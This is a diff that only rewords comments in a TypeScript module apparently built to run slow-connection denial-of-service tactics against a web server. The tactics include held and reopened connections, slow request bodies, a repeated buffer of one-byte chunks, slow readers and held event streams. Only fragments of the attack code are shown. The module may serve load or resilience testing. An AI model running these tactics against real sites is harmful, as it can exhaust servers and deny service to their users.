@@ -9,7 +9,7 @@ import {
   type RunningAttack,
 } from './plan.ts';
 
-/** A higher rate would overflow the system's queue of new connections. */
+/** New connections per tick. A higher rate would overflow the system's queue of new connections. */
 const NEW_PER_TICK = 10;
 const TICK_MS = 10;
 const REOPEN_DELAY_MS = 5_000;
@@ -24,16 +24,16 @@ export interface HeldConnection {
 }
 
 export interface HeldConnectionsOptions {
-  /** Called once it is open. @returns an action to repeat every `everyMs` */
+  /** Called once a connection is open. @returns an action to repeat every `everyMs` */
   hold: (connection: HeldConnection) => () => void;
   everyMs: number;
   /** Default: REOPEN_DELAY_MS. */
   reopenDelayMs?: number;
-  /** Bytes to receive before reading stops until the socket is resumed; default: no limit. */
+  /** Number of bytes after which reading pauses until `socket.resume()`; default: no limit. */
   receiveBytes?: number;
 }
 
-/** Connections that are held while the site allows it, and reopened when it closes them. */
+/** Connections that stay open until the site closes them, and are then opened again. */
 export class HeldConnections implements RunningAttack {
   readonly #plan: AttackerPlan;
   readonly #options: HeldConnectionsOptions;
@@ -174,7 +174,7 @@ export const beginSlowBodies: BeginAttack<'slow-bodies'> = (plan, tactic) => {
   });
 };
 
-/** 120 KB on the wire, sent again and again while the connection is open. */
+/** 20,000 chunks of one byte (120 KB), sent repeatedly while the connection is open. */
 const TINY_CHUNKS = Buffer.from('1\r\nx\r\n'.repeat(20_000));
 
 export const beginTinyChunks: BeginAttack<'tiny-chunks'> = (plan, { paths }) =>
@@ -196,7 +196,7 @@ export const beginTinyChunks: BeginAttack<'tiny-chunks'> = (plan, { paths }) =>
 
 const READ_BYTES = 64;
 
-/** Every other connection reads a little now and then. All of them send further requests. */
+/** All connections send further requests; every second one also reads a few bytes each time. */
 export const beginSlowReaders: BeginAttack<'slow-readers'> = (
   plan,
   { path, identity, pipelined, everyMs },
@@ -217,12 +217,12 @@ export const beginSlowReaders: BeginAttack<'slow-readers'> = (
 
 const EVENT = /^data:/gm;
 const STREAM_END = '\r\n0\r\n\r\n';
-/** A refusal's header, in seconds. */
+/** Header of a refusal: seconds until the next attempt. */
 const RETRY_AFTER = /^retry-after: (\d+)\r$/im;
 
 type Identities = AttackTacticOf<'streams'>['identities'];
 
-/** Counts received events, since a silent open stream would be useless. */
+/** Holds event streams and counts their events, because an open stream without events would be useless. */
 export const beginStreams: BeginAttack<'streams'> = (plan, { path, identities }) =>
   holdStreams(plan, streamRequests(plan, path, identities));
 
@@ -231,7 +231,7 @@ export const beginHiddenTabs: BeginAttack<'hidden-tabs'> = (plan, { path, readPa
     formatRawRequest(`${plan.host}:${plan.port}`, { method: 'GET', path: readPath, headers }),
   );
   const opened = streamRequests(plan, path, identities);
-  // Responses arrive in order: first that of the read, then the stream.
+  // Responses arrive in the order of the requests: first the response to the read, then the stream.
   return holdStreams(
     plan,
     opened.map((stream, index) => (reads[index] ?? '') + stream),
@@ -245,7 +245,7 @@ function streamRequests({ host, port }: AttackerPlan, path: string, identities: 
   });
 }
 
-/** @param requests first requests of the connections, in turn */
+/** Holds connections with an event stream. @param requests to send first, assigned to the connections in turn */
 function holdStreams(plan: AttackerPlan, requests: readonly string[]): HeldConnections {
   return new HeldConnections(plan, {
     everyMs: LOOK_MS,
